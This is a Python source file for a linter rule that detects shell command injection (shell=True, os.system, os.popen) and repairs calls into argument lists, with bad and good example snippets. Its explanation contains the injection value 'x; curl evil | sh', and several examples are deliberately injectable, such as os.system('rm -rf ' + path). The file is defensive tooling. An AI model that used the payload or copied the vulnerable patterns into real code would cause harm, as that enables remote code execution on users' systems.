"""Commands that a shell interprets."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator

import libcst as cst

from pratique.lint.api import (
    UNKNOWN,
    Argument,
    Bad,
    Call,
    Change,
    Checks,
    Confidence,
    Constant,
    Good,
    Needle,
    Part,
    RemoveArgument,
    Repair,
    Replace,
    Report,
    Rule,
    Severity,
    Value,
    spell,
    string_parts,
)

RULE = Rule(
    name="subprocess-shell-true",
    summary="a command line is given to a shell",
    help='Pass a list and no shell: subprocess.run(["ping", "-c", "1", host], check=True).',
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=(78,),
    what=(
        "subprocess functions with shell=True, subprocess.getoutput, os.system, os.popen and "
        "asyncio.create_subprocess_shell, when the command is not a constant. Values quoted by shlex.quote or "
        "converted to numbers count as harmless. A constant command that needs no shell is reported with low "
        "severity; other constants are shown in the strict profile."
    ),
    why=(
        "A shell takes ;, |, $( ) and newlines in a value for syntax. A file name or a host name such as `x; curl "
        "evil | sh` runs whatever it says, with the rights of the program."
    ),
    assistants=(
        "Commands are known as the lines typed into a terminal, and an f-string with shell=True is the shortest "
        "way to run one."
    ),
    remedy=(
        "The fix splits the line into a list of arguments and drops the shell. Each value then is exactly one "
        "argument, and must be text or a path; a missing program raises FileNotFoundError where the shell would "
        "return 127. Lines that use pipes, redirections, variables or patterns are for people to rewrite."
    ),
    prompt="Run programs with subprocess.run and a list of arguments, never through a shell.",
    references=(
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://docs.python.org/3/library/shlex.html#shlex.quote",
    ),
    bad=(
        Bad(
            """\
import subprocess


def ping(host):
    subprocess.run(f"ping -c 1 {host}", shell=True, check=True)  # once
""",
            why="an f-string",
            fixed="""\
import subprocess


def ping(host):
    subprocess.run(["ping", "-c", "1", host], check=True)  # once
""",
        ),
        Bad(
            """\
import subprocess


def run(command):
    return subprocess.check_output(command, shell=True)
""",
            why="a command from elsewhere",
        ),
        Bad(
            """\
import subprocess as sp

sp.call(
    "ls -l /tmp",
    shell=True,  # habit
)
""",
            why="a constant that needs no shell",
            fixed="""\
import subprocess as sp

sp.call(
    ["ls", "-l", "/tmp"],  # habit
)
""",
        ),
        Bad(
            """\
import os


def remove(path):
    os.system("rm -rf " + path)
""",
            why="os.system with a sum",
            fixed="""\
import subprocess


def remove(path):
    subprocess.call(["rm", "-rf", path])
""",
        ),
        Bad(
            """\
from subprocess import Popen

options = {"shell": True}


def start(name):
    return Popen("server --name=%s" % name, **options)
""",
            why="the shell comes out of a dict of options",
        ),
        Bad(
            """\
from subprocess import Popen


def start(name):
    return Popen("server --name=%s" % name, shell=True)
""",
            why="the % operator, the value inside a word",
            fixed="""\
from subprocess import Popen


def start(name):
    return Popen(["server", f"--name={name}"])
""",
        ),
        Bad(
            """\
import subprocess


def show(path):
    subprocess.run("cat '{}'".format(path), shell=True)
""",
            why="str.format, quoted by hand",
            fixed="""\
import subprocess


def show(path):
    subprocess.run(["cat", path])
""",
        ),
        Bad(
            """\
import subprocess


def count(path):
    subprocess.run(f"cat {path} | wc -l", shell=True)
""",
            why="a pipe, which only people can rewrite",
        ),
        Bad(
            """\
import asyncio


async def clone(url):
    return await asyncio.create_subprocess_shell(f"git clone {url}")
""",
            why="asyncio",
            fixed="""\
import asyncio


async def clone(url):
    return await asyncio.create_subprocess_exec("git", "clone", url)
""",
        ),
        Bad(
            """\
import os


def read(name):
    return os.popen(f"git log {name}").read()
""",
            why="os.popen",
        ),
        Bad(
            """\
import subprocess


def ship(files):
    subprocess.run(["tar", "-c", *files], shell=True)
""",
            why="a list, of which the shell takes only the first element",
            fixed="""\
import subprocess


def ship(files):
    subprocess.run(["tar", "-c", *files])
""",
        ),
        Bad(
            """\
import subprocess


def look(host):
    subprocess.run(["ping -c 1 " + host], shell=True)
""",
            why="a list whose first element is a whole command line",
        ),
        Bad(
            """\
import os


def page(path):
    os.system("more" if path is None else "more " + path)
""",
            why="one of two, of which one holds a value",
        ),
        Bad(
            """\
import os

os.system("ls *.txt | wc -l")
""",
            why="a constant that needs its shell, for the strict",
        ),
    ),
    good=(
        Good(
            """\
import subprocess

subprocess.run(["ls", "-l"], check=True)
""",
            why="a list",
        ),
        Good(
            """\
import subprocess

subprocess.run(["ls"], shell=False)
""",
            why="the shell turned off",
        ),
        Good(
            """\
import shlex
import subprocess


def show(path):
    subprocess.run(f"cat {shlex.quote(path)} | wc -l", shell=True)
""",
            why="every value quoted",
        ),
        Good(
            """\
import os
import subprocess


def run(arguments):
    subprocess.run(arguments, shell=os.name == "nt")
""",
            why="a shell on one platform only",
        ),
        Good(
            """\
import subprocess


def run(command, shell):
    subprocess.run(command, shell=shell)
""",
            why="the caller decides",
        ),
        Good(
            """\
def run(command, shell):
    return command


run(input(), shell=True)
""",
            why="another function",
        ),
        Good(
            """\
import subprocess


def kill(process):
    subprocess.run(f"kill -9 {int(process)} && true", shell=True)
""",
            why="a number",
        ),
        Good(
            """\
import subprocess


def rest(seconds):
    subprocess.run("sleep %d && true" % seconds, shell=True)
""",
            why="a conversion that takes numbers only",
        ),
        Good(
            """\
import os

os.system("cls" if os.name == "nt" else "clear")
""",
            why="one of two constants",
        ),
    ),
)

NEEDLES = (
    Needle("shell"),
    Needle("system", ("os",)),
    Needle("popen", ("os",)),
    Needle("getoutput"),
    Needle("getstatusoutput"),
)

_RUNNERS = {f"subprocess.{name}" for name in ("run", "call", "check_call", "check_output", "Popen")}
_ALWAYS = {
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "asyncio.subprocess.create_subprocess_shell",
}
_ASYNCIO = {"asyncio.create_subprocess_shell", "asyncio.subprocess.create_subprocess_shell"}
_COMMAND_KEYWORDS = ("args", "cmd", "command")
_QUOTING = {"shlex.quote", "pipes.quote", "shlex.join", "subprocess.list2cmdline", "int", "float", "len", "id", "hex"}
_NUMBERS = {"os.getpid()", "os.getppid()", "os.getuid()", "os.getgid()", "sys.executable", "os.devnull", "os.sep"}
_HARMLESS = _NUMBERS | {f"{function}()" for function in _QUOTING}
# Syntax of a POSIX shell, quotes apart: what holds one of these is left to people.
_SYNTAX = re.compile(r"[|&;<>()$`*?\[\]#~!{}\n\\=%]")
_BUILTINS = {
    "cd", "export", "source", ".", "set", "unset", "alias", "eval", "exec", "type", "command", "umask", "ulimit",
    "wait", "read", "trap", "exit", "return", "shift", "dir", "copy", "del", "cls", "start", "if", "for", "while",
    "case",
}  # fmt: skip
_NUMBER = re.compile(r"%(?:%|[ 0+-]?\d*(?:\.\d+)?[dioxXeEfFgG])")  # conversions that refuse text
_HOLE = "\ue000"  # stands for a value while a command line is split; private use, in no command
_REASON = "each value becomes one argument and must be text or a path; a missing program now raises an exception"


def check_call(call: Call) -> Iterator[Report]:
    command = _command(call)
    if command is None:
        return
    if isinstance(command.value.literal.node, (cst.List, cst.Tuple)):
        yield from _list(call, command)
    elif command.constant is not UNKNOWN:
        yield from _constant(call, command)
    elif not _is_quoted(command.value):
        parts = string_parts(command.value)
        confidence = Confidence.MEDIUM if parts is None else Confidence.HIGH
        repair = _repair(call, command, parts) if parts is not None else None
        yield Report(call.node, _message(call), repair=repair, confidence=confidence)


def _command(call: Call) -> Argument | None:
    """The command line, where a shell gets it for certain."""
    if not call.names & (_RUNNERS | _ALWAYS):
        return None
    if not call.names & _ALWAYS:
        shell = call.argument("shell", 8)
        if shell is None or shell.constant is UNKNOWN or not shell.constant:
            return None
    named = (call.keywords[keyword] for keyword in _COMMAND_KEYWORDS if keyword in call.keywords)
    return call.positional[0] if call.positional else next(named, None)


def _message(call: Call) -> str:
    written = "shell=True" if call.names & _RUNNERS else f"{call.method}()"
    return f"{written} lets a shell interpret a command line that holds values from elsewhere"


def _list(call: Call, command: Argument) -> Iterator[Report]:
    """The shell runs the first element; the others are its own parameters."""
    first = command.value.elements[0] if command.value.elements else None
    if first is not None and string_parts(first) is not None and not _is_quoted(first):
        yield Report(call.node, _message(call))
    elif call.names & _RUNNERS:
        message = "with shell=True only the first element of the list is the command, the others never reach it"
        changes = _without_shell(call) if first is not None and _is_one_word(first.constant) else ()
        repair = Repair("drop the shell", changes, safe=False, reason=_REASON) if changes else None
        yield Report(call.node, message, repair=repair, severity=Severity.LOW)


def _constant(call: Call, command: Argument) -> Iterator[Report]:
    """No one can put anything into it; a shell that is not needed is still better not started."""
    if not isinstance(command.constant, str):
        return
    repair = _repair(call, command, [command.constant])
    message = "a shell is started for a constant command"
    needless = repair is not None and bool(call.names & _RUNNERS)
    yield Report(call.node, message, repair=repair, severity=Severity.LOW, profile="" if needless else "strict")


def _is_one_word(program: Constant) -> bool:
    """Whether a list that begins so means the same without its shell: the name of a program alone."""
    return not isinstance(program, str) or not (_SYNTAX.search(program) or any(map(str.isspace, program)))


def _is_quoted(command: Value) -> bool:
    """Whether every value in the line is quoted for the shell or cannot hold syntax."""
    parts = string_parts(command)
    if parts is None:
        parts = [command]
    return all(isinstance(part, str) or _is_harmless(part) for part in parts)


def _is_harmless(value: Value) -> bool:
    node = value.literal.node
    if value.is_constant or (value.names and value.names <= _HARMLESS):
        return True
    if isinstance(node, cst.IfExp):
        return all(_is_quoted(value.literal.at(branch)) for branch in (node.body, node.orelse))
    if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Modulo):
        template = value.literal.at(node.left).constant
        return isinstance(template, str) and "%" not in _NUMBER.sub("", template)
    if isinstance(node, cst.Call):
        function = value.literal.at(node.func)
        return bool(function.names & _QUOTING) or _joins_quoted(value.literal, node)
    return False


def _joins_quoted(value: Value, node: cst.Call) -> bool:
    """`" ".join(shlex.quote(item) for item in items)` and `" ".join(map(shlex.quote, items))`."""
    if not (isinstance(node.func, cst.Attribute) and node.func.attr.value == "join" and len(node.args) == 1):
        return False
    items = node.args[0].value
    if isinstance(items, (cst.GeneratorExp, cst.ListComp)) and isinstance(items.elt, cst.Call):
        return bool(value.at(items.elt.func).names & _QUOTING)
    if isinstance(items, cst.Call) and isinstance(items.func, cst.Name) and items.func.value == "map" and items.args:
        return bool(value.at(items.args[0].value).names & _QUOTING)
    return False


def _repair(call: Call, command: Argument, parts: list[Part]) -> Repair | None:
    """The call with a list of arguments; None where the line needs its shell."""
    words = _words(parts)
    if words is None or call.is_open or call.is_partial or call.argument("executable") is not None:
        return None
    if command.value.literal.scope is not call.scope and not isinstance(command.constant, str):
        return None  # the names in it may mean something else here
    listed = ", ".join(words)
    changes = _changes(call, command, listed)
    return Repair("pass a list of arguments", changes, safe=False, reason=_REASON) if changes else None


def _changes(call: Call, command: Argument, listed: str) -> tuple[Change, ...]:
    if call.names <= _RUNNERS:
        dropped = _without_shell(call)
        return (Replace(command.node, f"[{listed}]"), *dropped) if dropped else ()
    module, name, text = "", "", ""
    if call.names <= _ASYNCIO:
        module, name, text = "asyncio", "create_subprocess_exec", listed
    elif call.names == {"os.system"}:
        module, name, text = "subprocess", "call", f"[{listed}]"
    spelling = spell(call, module, name, instead_of=call.function.node) if module else None
    if spelling is None:
        return ()
    return (Replace(call.function.node, spelling.text), Replace(command.node, text), *spelling.changes)


def _without_shell(call: Call) -> tuple[Change, ...]:
    """Only where the call itself says shell=True: options may be shared."""
    shell = call.keywords.get("shell")
    return (RemoveArgument(call.node, shell.arg),) if shell is not None and shell.is_written else ()


def _words(parts: list[Part]) -> list[str] | None:
    """The arguments as source code, or None where the constant text uses more of a shell than words and quotes."""
    texts = [part for part in parts if isinstance(part, str)]
    values = [part for part in parts if isinstance(part, Value)]
    if any(_SYNTAX.search(text.replace("=", "")) or _HOLE in text for text in texts):
        return None
    try:
        words = shlex.split("".join(part if isinstance(part, str) else _HOLE for part in parts))
    except ValueError:
        return None
    if not words or words[0] in _BUILTINS or _HOLE in words[0] or "=" in words[0]:
        return None
    remaining = iter(values)
    codes = [_word(word, remaining) for word in words]
    return None if None in codes else [code for code in codes if code is not None]


def _word(word: str, values: Iterator[Value]) -> str | None:
    """One argument as source code; each hole in it takes the next value. None: Python 3.11 cannot quote it."""
    if _HOLE not in word:
        return json.dumps(word, ensure_ascii=False)
    texts = word.split(_HOLE)
    codes = [cst.Module([]).code_for_node(next(values).node) for _ in texts[1:]]
    if texts == ["", ""]:
        return codes[0]
    quote = next((quote for quote in "\"'" if not any(quote in text for text in (*codes, *texts))), "")
    if not quote or any("\n" in code or "\\" in code or "#" in code for code in codes):
        return None
    inner = texts[0] + "".join(f"{{{code}}}{text}" for code, text in zip(codes, texts[1:], strict=True))
    return f"f{quote}{inner}{quote}"


CHECKS: Checks = {Call: check_call}
